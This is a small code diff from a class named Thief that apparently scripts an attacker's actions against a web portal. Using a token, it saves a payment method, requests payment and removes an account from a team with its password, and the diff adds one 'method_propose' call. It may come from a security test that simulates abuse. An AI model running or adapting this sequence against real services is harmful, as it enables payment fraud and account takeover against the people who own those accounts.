@@ -242,6 +242,7 @@ class Thief:
         self.saved |= (
             await portal.post("/payments/method_save", token, attributes=given)
         ).code == 0
+        await portal.post("/payments/method_propose", token, attributes=given)
         await portal.post("/payments/request", token)
         removed = {"id": who.account_id, "password": password}
         await portal.post("/user/team_remove", token, attributes=removed)
